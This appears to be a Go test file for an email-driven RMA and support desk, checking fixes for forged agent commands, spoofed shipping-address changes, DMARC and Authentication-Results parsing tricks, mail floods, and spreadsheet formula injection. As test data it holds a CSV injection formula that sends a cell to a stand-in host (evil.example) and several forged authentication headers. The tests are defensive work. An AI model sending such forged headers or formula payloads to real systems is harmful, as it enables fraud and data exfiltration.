package workflow

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"rmad/config"
	"rmad/policy"
	"rmad/store"
)

// events returns the kinds of t's events, oldest first.
func (f *fixture) events(ref string) []string {
	f.t.Helper()
	rows, err := f.pool.Query(context.Background(), `SELECT e.kind || ': ' || e.detail FROM ticket_events e JOIN tickets t ON t.id = e.ticket_id
		WHERE t.ref = $1 ORDER BY e.id`, ref)
	if err != nil {
		f.t.Fatal(err)
	}
	defer rows.Close()
	var out []string
	for rows.Next() {
		var s string
		if err := rows.Scan(&s); err != nil {
			f.t.Fatal(err)
		}
		out = append(out, s)
	}
	return out
}

func hasEvent(evs []string, prefix string) bool {
	for _, e := range evs {
		if strings.HasPrefix(e, prefix) {
			return true
		}
	}
	return false
}

func (f *fixture) rmaRows(ref string) []store.RMA {
	f.t.Helper()
	tk := f.ticket(ref)
	rmas, err := store.TicketRMAs(context.Background(), f.pool, tk.ID, false)
	if err != nil {
		f.t.Fatal(err)
	}
	return rmas
}

func (f *fixture) since(n int) []store.OutMail { return f.outbox()[n:] }

const completeQCT = `Contact: Alice Martin
Phone: +1 (408) 555-0143
Bill to: Customer Inc, 1 Real Street, San Jose, CA 95110
Ship to: Customer Inc, 1 Real Street, San Jose, CA 95110
Model: D52BQ-2U
Serial Number: QTFCQ0123456789
Part Number: 1S5BZZZ0003
PO: PO-4711
Invoice #: INV-1
Invoice date: 2026-03-03
Problem: the server does not power on.
`

// Hole 1: the customer's own copy of the thread grants no authority, even
// with an agent's From address.
func TestCustomerCannotCommandFromTheirCopyOfTheThread(t *testing.T) {
	f := newFixture(t)
	f.ingest("rma", mailText("Alice <"+customer+">", rmaAddr, "Server dead", "req-1@customer.example", "", completeQCT), t0)
	ack := f.outbox()[0]
	if ack.Audience != "customer" || !strings.Contains(ack.MessageID, ".c.") {
		t.Fatalf("ack = %+v", ack)
	}
	mark := len(f.outbox())
	res := f.ingest("rma", mailText("Dana <"+agentAddr+">", rmaAddr, "Re: "+ack.Subject, "forged-1@customer.example",
		"In-Reply-To: <"+ack.MessageID+">\nReferences: <req-1@customer.example> <"+ack.MessageID+">\n", "#approve advance override the fixture has no registry plan\n#received\n"), t0.Add(time.Hour))
	if res.Outcome != "stranger" {
		t.Fatalf("outcome = %+v, want stranger", res)
	}
	if rmas := f.rmaRows("TKT-100001"); len(rmas) != 1 || rmas[0].Status != RMARequested || rmas[0].IssuedAt != nil {
		t.Fatalf("a command ran: %+v", rmas)
	}
	out := f.since(mark)
	if len(out) != 1 || out[0].Template != "agent_stranger" || out[0].To[0] != agentAddr || !strings.Contains(out[0].Body, "not a reply to a mail the desk sent to agents") {
		t.Fatalf("mail after the forgery: %+v", out)
	}
	if !hasEvent(f.events("TKT-100001"), "stranger: "+agentAddr) {
		t.Fatalf("refusal not recorded: %v", f.events("TKT-100001"))
	}
	// A Message-ID of the old form (no audience) threads but grants nothing.
	nonce := "aaaaaaaa"
	legacy := "rmad.tkt-100001." + nonce + "." + f.desk.mac("TKT-100001", nonce) + "@desk.example"
	if res := f.ingest("rma", mailText(agentAddr, rmaAddr, "Re: x", "forged-2@customer.example", "In-Reply-To: <"+legacy+">\n", "#approve\n"), t0.Add(2*time.Hour)); res.Outcome != "stranger" {
		t.Fatalf("legacy id granted authority: %+v", res)
	}
	// The agents' own notice does grant it.
	notice := f.outbox()[1]
	if notice.Audience != "agents" || !strings.Contains(notice.MessageID, ".a.") {
		t.Fatalf("notice = %+v", notice)
	}
	if res := f.ingest("rma", mailText(agentAddr, rmaAddr, "Re: x", "agent-1@desk.example", "In-Reply-To: <"+notice.MessageID+">\n", "#approve standard\n"), t0.Add(3*time.Hour)); res.Outcome != "agent" {
		t.Fatalf("agent refused: %+v", res)
	}
	if rmas := f.rmaRows("TKT-100001"); len(rmas) != 1 || rmas[0].Status != RMAIssued {
		t.Fatalf("agent's approve: %+v", rmas)
	}
}

// Hole 2: From and a subject ref are not a customer.
func TestForgedFollowUpCannotSteerGoods(t *testing.T) {
	f := newFixture(t)
	f.ingest("rma", mailText("Alice <"+customer+">", rmaAddr, "Server dead", "req-1@customer.example", "", completeQCT), t0)
	ack, notice := f.outbox()[0], f.outbox()[1]

	// A subject ref only: recorded, shown to agents as unverified, never acted on.
	mark := len(f.outbox())
	res := f.ingest("rma", mailText("Alice <"+customer+">", rmaAddr, "Re: [TKT-100001]", "forged-1@evil.example", "",
		"Ship-to: 9 Evil Road, Nowhere\nPhone: +1 555 0000\n"), t0.Add(time.Hour))
	tk := f.ticket("TKT-100001")
	if res.Outcome != "unverified" || !strings.Contains(tk.Fields["ship_to"], "1 Real Street") || tk.Fields["phone"] != "+1 (408) 555-0143" {
		t.Fatalf("outcome %+v, fields %v", res, tk.Fields)
	}
	out := f.since(mark)
	if len(out) != 1 || out[0].To[0] != agentAddr || !strings.Contains(out[0].Subject, "Unverified") {
		t.Fatalf("after the forged follow-up: %+v", out)
	}
	if !hasEvent(f.events("TKT-100001"), "unverified: "+customer) {
		t.Fatalf("events: %v", f.events("TKT-100001"))
	}

	// Approved, then a reply in the signed thread asks for another address:
	// a proposal for agents, and nothing ships until one confirms it.
	f.ingest("rma", mailText(agentAddr, rmaAddr, "Re: x", "agent-1@desk.example", "In-Reply-To: <"+notice.MessageID+">\n", "#approve advance override the fixture has no registry plan\n"), t0.Add(2*time.Hour))
	if rmas := f.rmaRows("TKT-100001"); len(rmas) != 1 || rmas[0].Status != RMAIssued {
		t.Fatalf("approve: %+v", rmas)
	}
	mark = len(f.outbox())
	f.ingest("rma", mailText(customer, rmaAddr, "Re: "+ack.Subject, "req-2@customer.example", "In-Reply-To: <"+ack.MessageID+">\n",
		"Please ship it to our other site.\nShip-to: Customer Inc, 5 Other Way, Austin, TX 78701\n"), t0.Add(3*time.Hour))
	tk = f.ticket("TKT-100001")
	if !strings.Contains(tk.Fields["ship_to"], "1 Real Street") || !strings.Contains(tk.Fields["ship_to_proposed"], "5 Other Way") {
		t.Fatalf("fields after the proposal: %v", tk.Fields)
	}
	var noticeBody string
	for _, m := range f.since(mark) {
		if m.Template == "agent_followup" {
			noticeBody = m.Body
		}
	}
	if !strings.Contains(noticeBody, "ATTENTION") || !strings.Contains(noticeBody, "#confirm ship_to") {
		t.Fatalf("agents not told of the new address:\n%s", noticeBody)
	}
	thread := "In-Reply-To: <" + notice.MessageID + ">\n"
	f.ingest("rma", mailText(agentAddr, rmaAddr, "Re: x", "agent-2@desk.example", thread, "#shipped UPS 1Z999\n"), t0.Add(4*time.Hour))
	if rmas := f.rmaRows("TKT-100001"); rmas[0].Status != RMAIssued {
		t.Fatalf("shipped with an unconfirmed address: %+v", rmas[0])
	}
	f.ingest("rma", mailText(agentAddr, rmaAddr, "Re: x", "agent-3@desk.example", thread, "#confirm ship_to\n#shipped UPS 1Z999\n"), t0.Add(5*time.Hour))
	tk = f.ticket("TKT-100001")
	if rmas := f.rmaRows("TKT-100001"); rmas[0].Status != RMAShipped || !strings.Contains(tk.Fields["ship_to"], "5 Other Way") || tk.Fields["ship_to_proposed"] != "" {
		t.Fatalf("after #confirm: %+v %v", rmas[0], tk.Fields)
	}
}

// Hole 2, second half: a reply threaded by the customer's own Message-ID
// (not by a desk mail) fills ordinary gaps but not goods or money.
func TestThreadedButUnsignedReplyFillsNoGoodsFields(t *testing.T) {
	f := newFixture(t)
	f.ingest("rma", mailText(customer, rmaAddr, "Server will not power on", "req-1@customer.example", "", incompleteRMA), t0)
	res := f.ingest("rma", mailText(customer, rmaAddr, "Re: Server will not power on", "req-2@customer.example",
		"In-Reply-To: <req-1@customer.example>\n", "PO: PO-1\nShip to: 9 Evil Road, Nowhere\n"), t0.Add(time.Hour))
	tk := f.ticket("TKT-100001")
	if res.Outcome != "followup" || tk.Fields["po_number"] != "PO-1" || tk.Fields["ship_to"] != "" {
		t.Fatalf("outcome %+v fields %v", res, tk.Fields)
	}
	if !hasEvent(f.events("TKT-100001"), "steer_held") {
		t.Fatalf("events: %v", f.events("TKT-100001"))
	}
}

func importAsset(t *testing.T, f *fixture, a store.Asset) {
	t.Helper()
	if err := store.UpsertAssets(context.Background(), f.pool, []store.Asset{a}, t0); err != nil {
		t.Fatal(err)
	}
}

const ixRequest = `Contact: %s
Phone: 555-0100
Ship to: 1 Main St, Springfield, IL 62701
Model: TrueNAS X20
Serial number: %s
Problem: the pool degraded after a disk failure.
`

// Hole 3: ownership is the owner's exact address or a domain the operator
// listed; freemail is never an organisation; no automatic issue on a domain.
func TestOwnershipByAddressNeverFreemailDomain(t *testing.T) {
	auth := func(dom string) string {
		return "Authentication-Results: mx.desk.example; dmarc=pass header.from=" + dom + "; dkim=pass header.d=" + dom + "\n"
	}
	cases := []struct {
		name, owner, from string
		domains           []string
		issued, coverage  bool
	}{
		{"freemail neighbour", "bob@gmail.com", "mallory@gmail.com", nil, false, false},
		{"same company domain, not listed", "bob@bigcorp.example", "anyone@bigcorp.example", nil, false, false},
		{"listed domain: coverage, no automatic issue", "bob@bigcorp.example", "carol@bigcorp.example", []string{"bigcorp.example"}, false, true},
		{"freemail listed as a domain counts for nothing", "bob@gmail.com", "mallory@gmail.com", []string{"gmail.com"}, false, false},
		{"exact owner, authenticated", "bob@bigcorp.example", "Bob@BigCorp.example", nil, true, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := newFixture(t, func(cfg *Config, p *policy.Policy) {
				*p = *mustPolicy(t, "ixsystems")
				cfg.People.TrustedAuthservID = "mx.desk.example"
			})
			inv := t0.AddDate(-1, 0, 0)
			importAsset(t, f, store.Asset{SerialNumber: "A1-0001", Model: "TrueNAS X20", CustomerEmail: c.owner, CustomerDomains: c.domains,
				InvoiceDate: &inv, Plans: []string{"sla"}})
			f.ingest("rma", mailText(c.from, rmaAddr, "Pool degraded", "r1@x.example", auth(domainOf(strings.ToLower(c.from))),
				fmt.Sprintf(ixRequest, "Someone", "A1-0001")), t0)
			rmas := f.rmaRows("TKT-100001")
			if len(rmas) != 1 || (rmas[0].Status == RMAIssued) != c.issued {
				t.Fatalf("rmas = %+v, want issued=%v", rmas, c.issued)
			}
			ans := f.outbox()[0]
			if ans.To[0] != strings.ToLower(c.from) {
				t.Fatalf("first mail to %v", ans.To)
			}
			shown := strings.Contains(ans.Body, "Covered:") || strings.Contains(ans.Body, "warranty of 3 years")
			if shown != c.coverage || (!c.coverage && !strings.Contains(ans.Body, "to be confirmed")) {
				t.Fatalf("coverage shown=%v, want %v:\n%s", shown, c.coverage, ans.Body)
			}
		})
	}
}

// Without sender authentication the desk does not issue a replacement that
// ships before the defective unit is back, even to the exact owner.
func TestNoAutomaticAdvanceWithoutAuthentication(t *testing.T) {
	f := newFixture(t, func(cfg *Config, p *policy.Policy) { *p = *mustPolicy(t, "ixsystems") })
	inv := t0.AddDate(-1, 0, 0)
	importAsset(t, f, store.Asset{SerialNumber: "A1-0001", Model: "TrueNAS X20", CustomerEmail: "bob@bigcorp.example", InvoiceDate: &inv, Plans: []string{"sla"}})
	f.ingest("rma", mailText("bob@bigcorp.example", rmaAddr, "Pool degraded", "r1@x.example", "", fmt.Sprintf(ixRequest, "Bob", "A1-0001")), t0)
	rmas := f.rmaRows("TKT-100001")
	if len(rmas) != 1 || rmas[0].Status != RMARequested || rmas[0].Type != "advance" {
		t.Fatalf("rmas = %+v", rmas)
	}
	if !hasEvent(f.events("TKT-100001"), "auto_issue_held") || !strings.Contains(f.outbox()[1].Body, "Not issued automatically") {
		t.Fatalf("agents not told: %v\n%s", f.events("TKT-100001"), f.outbox()[1].Body)
	}
}

func mustPolicy(t *testing.T, name string) *policy.Policy {
	t.Helper()
	p, err := policy.Load(name)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// Hole 4: authority needs exactly one From; a dmarc=fail refuses.
func TestAgentAuthorityRefusedOnDMARCFailOrTwoFroms(t *testing.T) {
	f := newFixture(t, func(c *Config, _ *policy.Policy) { c.People.TrustedAuthservID = "mx.desk.example" })
	f.ingest("rma", mailText(customer, rmaAddr, "Server dead", "req-1@customer.example", "", completeQCT), t0)
	notice := f.outbox()[1]
	thread := "In-Reply-To: <" + notice.MessageID + ">\n"
	for name, extra := range map[string]string{
		"dmarc fail beside a dkim pass": "Authentication-Results: mx.desk.example; dkim=pass header.d=desk.example; dmarc=fail header.from=desk.example\n",
		"quoted string":                 "Authentication-Results: mx.desk.example; spf=fail smtp.mailfrom=\"x;dkim=pass header.d=desk.example x\"@evil.example\n",
		"comment":                       "Authentication-Results: mx.desk.example; spf=none (x; dkim=pass header.d=desk.example) smtp.mailfrom=evil.example\n",
		"second From":                   "From: mallory@evil.example\nAuthentication-Results: mx.desk.example; dkim=pass header.d=desk.example\n",
	} {
		res := f.ingest("rma", mailText(agentAddr, rmaAddr, "Re: x", "a-"+strings.ReplaceAll(name, " ", "-")+"@x", thread+extra, "#approve advance override the fixture has no registry plan\n"), t0.Add(time.Hour))
		if res.Outcome != "stranger" {
			t.Errorf("%s: outcome %+v", name, res)
		}
	}
	if rmas := f.rmaRows("TKT-100001"); len(rmas) != 1 || rmas[0].Status != RMARequested {
		t.Fatalf("a refused command ran: %+v", rmas)
	}
}

// Hole 7: a subject that only looks automatic makes a ticket; the desk holds
// its own answer and tells agents why.
func TestLookalikeAutoReplySubjectMakesATicket(t *testing.T) {
	f := newFixture(t)
	for i, subj := range []string{"NAS reboots every night out of office hours", "Thank you for your quote - please go ahead",
		"Vacation backup job fails", "Automatic reply: out of office"} {
		res := f.ingest("support", mailText(fmt.Sprintf("c%d@customer%d.example", i, i), supportAddr, subj, fmt.Sprintf("s%d@x", i), "", "Please help, details below.\n"), t0)
		if res.Outcome != "created" {
			t.Fatalf("%q: %+v", subj, res)
		}
	}
	out := f.outbox()
	// The last one is held: the parser flags its subject, no header says so.
	last := out[len(out)-1]
	if last.Template != "agent_new" || !strings.Contains(last.Body, "No automatic answer was sent") || out[len(out)-2].Template == "ack" && out[len(out)-2].To[0] == "c3@customer3.example" {
		t.Fatalf("held answer: %+v", out[len(out)-2:])
	}
}

// Hole 8: backscatter caps, +tags, DMARC fails and echoed text.
func TestBackscatterCaps(t *testing.T) {
	f := newFixture(t, func(c *Config, _ *policy.Policy) {
		c.People.TrustedAuthservID = "mx.desk.example"
		c.AutoReplyDomainLimit = 8
		c.AutoReplyDeskLimit = 20
	})
	acks := func() map[string]int {
		n := map[string]int{}
		for _, m := range f.outbox() {
			if m.Audience == "customer" {
				n[m.To[0]]++
				n["*"]++
			}
		}
		return n
	}
	// Ten +tags of one mailbox are one sender: five answers.
	for i := range 10 {
		f.ingest("support", mailText(fmt.Sprintf("victim+%d@one.example", i), supportAddr, "Hi", fmt.Sprintf("t%d@x", i), "", "help\n"), t0)
	}
	if n := acks()["*"]; n != 5 {
		t.Fatalf("%d answers to one mailbox's +tags, want 5", n)
	}
	// Forged senders at one domain: the domain's cap.
	for i := range 12 {
		f.ingest("support", mailText(fmt.Sprintf("u%d@two.example", i), supportAddr, "Hi", fmt.Sprintf("d%d@x", i), "", "help\n"), t0)
	}
	if n := acks()["*"]; n != 13 {
		t.Fatalf("%d answers after a domain flood, want 5+8", n)
	}
	// Many domains: the desk's cap.
	for i := range 12 {
		f.ingest("support", mailText(fmt.Sprintf("x@d%d.example", i), supportAddr, "Hi", fmt.Sprintf("w%d@x", i), "", "help\n"), t0)
	}
	if n := acks()["*"]; n != 20 {
		t.Fatalf("%d answers after a desk-wide flood, want 20", n)
	}
	// A DMARC fail at our server is never answered, whatever the caps.
	g := newFixture(t, func(c *Config, _ *policy.Policy) { c.People.TrustedAuthservID = "mx.desk.example" })
	res := g.ingest("support", mailText("CHEAP PILLS http://pills.example <victim@three.example>", supportAddr,
		"CHEAP PILLS at http://pills.example/buy now, best prices, fast shipping, order today and save on everything you need", "p1@x",
		"Authentication-Results: mx.desk.example; dmarc=fail header.from=three.example\n", "buy\n"), t0)
	out := g.outbox()
	if res.Outcome != "created" || len(out) != 1 || out[0].Template != "agent_new" || !strings.Contains(out[0].Body, "failed sender authentication") {
		t.Fatalf("dmarc fail: %+v %+v", res, out)
	}
	// Echoed text is short and carries no link.
	res = g.ingest("support", mailText("CHEAP PILLS http://pills.example <v2@four.example>", supportAddr,
		"CHEAP PILLS at http://pills.example/buy now, best prices, fast shipping, order today and save on everything you need", "p2@x", "", "buy\n"), t0)
	ack := g.outbox()[1]
	if ack.Template != "ack" || strings.Contains(ack.Subject+ack.Body, "pills.example") || len(ack.Subject) > 140 {
		t.Fatalf("echo: %q\n%s", ack.Subject, ack.Body)
	}
}

// Hole 12: a thousand units are not a thousand RMAs; a thousand refs are not
// a thousand lookups.
func TestUnitAndRefCaps(t *testing.T) {
	f := newFixture(t, func(cfg *Config, p *policy.Policy) { *p = *mustPolicy(t, "ixsystems") })
	var b strings.Builder
	b.WriteString("Contact: Bob\nPhone: 555-0100\nShip to: 1 Main St, Springfield, IL 62701\nInvoice date: 2026-06-01\nProblem: all dead.\n\n")
	for i := range 1400 {
		fmt.Fprintf(&b, "Unit %d: Model TrueNAS X20, Serial number X20-%05d\n", i+1, i)
	}
	f.ingest("rma", mailText("bob@bigcorp.example", rmaAddr, "Many units", "m1@x", "", b.String()), t0)
	tk := f.ticket("TKT-100001")
	if len(tk.Units) != config.DefaultMaxUnits {
		t.Fatalf("%d units kept, want %d", len(tk.Units), config.DefaultMaxUnits)
	}
	for _, m := range f.rmaRows("TKT-100001") {
		if m.Status != RMARequested {
			t.Fatalf("issued automatically: %+v", m)
		}
	}
	if !hasEvent(f.events("TKT-100001"), "too_many_units") {
		t.Fatalf("events: %v", f.events("TKT-100001"))
	}
	// Refs past the fifth are not looked up.
	refs := "TKT-900001 TKT-900002 TKT-900003 TKT-900004 TKT-900005 TKT-100001"
	res := f.ingest("rma", mailText("bob@bigcorp.example", rmaAddr, "About "+refs, "m2@x", "", "see subject\n"), t0.Add(time.Hour))
	if res.Ticket == "TKT-100001" {
		t.Fatalf("the sixth ref was looked up: %+v", res)
	}
}

// Hole 14: no formula reaches finance's spreadsheet.
func TestDigestCSVNeutralisesFormulas(t *testing.T) {
	f := newFixture(t, func(c *Config, _ *policy.Policy) { c.People.Finance = "finance@desk.example" })
	body := strings.NewReplacer("Model: D52BQ-2U", `Model: =HYPERLINK("http://evil.example/?"&A1,"RMA")`,
		"Serial Number: QTFCQ0123456789", "Serial Number: =1+2").Replace(completeQCT)
	f.ingest("rma", mailText(customer, rmaAddr, "Server dead", "req-1@customer.example", "", body), t0)
	notice := f.outbox()[1]
	f.ingest("rma", mailText(agentAddr, rmaAddr, "Re: x", "a-1@desk.example", "In-Reply-To: <"+notice.MessageID+">\n", "#approve standard\n"), t0.Add(time.Hour))
	if _, err := f.pool.Exec(context.Background(), `UPDATE rmas SET billed_at = $1, amount = 100, currency = 'USD'`, t0.Add(2*time.Hour)); err != nil {
		t.Fatal(err)
	}
	if _, err := f.desk.RunJob(context.Background(), "digest", t0.Add(3*time.Hour)); err != nil {
		t.Fatal(err)
	}
	var csvText string
	if err := f.pool.QueryRow(context.Background(), `SELECT convert_from(decode(attachments->0->>'data', 'base64'), 'UTF8') FROM outbox
		WHERE template = 'finance_digest'`).Scan(&csvText); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(csvText, "\n") {
		for _, cell := range strings.Split(line, ",") {
			c := strings.Trim(cell, `"`)
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !plainNumber.MatchString(c) {
				t.Fatalf("formula cell %q in\n%s", c, csvText)
			}
		}
	}
	if !strings.Contains(csvText, `'=HYPERLINK`) && !strings.Contains(csvText, `"'=HYPERLINK`) {
		t.Fatalf("model not kept (neutralised):\n%s", csvText)
	}
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{"=1+2": "'=1+2", "+1": "+1", "-12.50": "-12.50", "-1+2": "'-1+2", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "\rx": "'\rx", "D52BQ-2U": "D52BQ-2U", "": ""} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzReadAuthResults(f *testing.F) {
	for _, s := range []string{
		"mx.desk.example; dkim=pass header.d=desk.example; spf=pass smtp.mailfrom=desk.example",
		"mx.desk.example; spf=fail smtp.mailfrom=\"x;dkim=pass header.d=desk.example x\"@evil.example",
		"mx.desk.example; spf=none (x; dkim=pass header.d=desk.example) smtp.mailfrom=evil.example",
		"mx.desk.example 1; dmarc=fail (p=reject) header.from=desk.example",
		"mx.desk.example; none", "", ";;;", "(\"", "\"(", "mx.desk.example; dkim=pass header.d=\"desk.example",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v := readAuthResults([]string{s}, "mx.desk.example", "desk.example")
		if v.pass != "" && !v.seen {
			t.Fatalf("a pass from a header not by the trusted host: %q", s)
		}
		// Whatever is inside a comment or a quoted string never counts.
		wrapped := readAuthResults([]string{"mx.desk.example; spf=none (" + strings.NewReplacer("(", "", ")", "", "\\", "").Replace(s) + ") smtp.mailfrom=evil.example"}, "mx.desk.example", "desk.example")
		if wrapped.pass != "" {
			t.Fatalf("a comment's content read as a result: %q", s)
		}
		quoted := readAuthResults([]string{"mx.desk.example; spf=none smtp.mailfrom=\"" + strings.NewReplacer("\"", "", "\\", "").Replace(s) + "\"@evil.example"}, "mx.desk.example", "desk.example")
		if quoted.pass != "" {
			t.Fatalf("a quoted string's content read as a result: %q", s)
		}
	})
}

// Hole 6: a message of a few hundred huge To headers is stored with a
// bounded number of addresses, and still ticketed.
func TestHugeAddressHeadersAreCapped(t *testing.T) {
	f := newFixture(t)
	var b strings.Builder
	for i := range 300 {
		b.WriteString("To: ")
		for j := range 200 {
			if j > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "u%d.%d@flood.example", i, j)
		}
		b.WriteString("\n")
	}
	res := f.ingest("support", "From: carol@customer.example\nSubject: Fan noise\nMessage-ID: <flood-1@customer.example>\n"+b.String()+"\nThe fan is loud.\n", t0)
	if res.Outcome != "created" {
		t.Fatalf("outcome %+v", res)
	}
	var n int
	if err := f.pool.QueryRow(context.Background(), `SELECT cardinality(to_addresses) FROM messages WHERE message_id = 'flood-1@customer.example'`).Scan(&n); err != nil {
		t.Fatal(err)
	}
	if n == 0 || n > 200 {
		t.Fatalf("%d addresses stored, want 1..200", n)
	}
}

func TestRateKey(t *testing.T) {
	for in, want := range map[string]string{"Jane+1@X.example": "jane@x.example", "jane@x.example": "jane@x.example",
		"j.a.n.e+spam@gmail.com": "jane@gmail.com", "j.ane@x.example": "j.ane@x.example", "+x@x.example": "+x@x.example",
		"J.Ane+x@GoogleMail.com": "jane@gmail.com"} {
		if got := rateKey(in); got != want {
			t.Errorf("rateKey(%q) = %q, want %q", in, got, want)
		}
	}
}
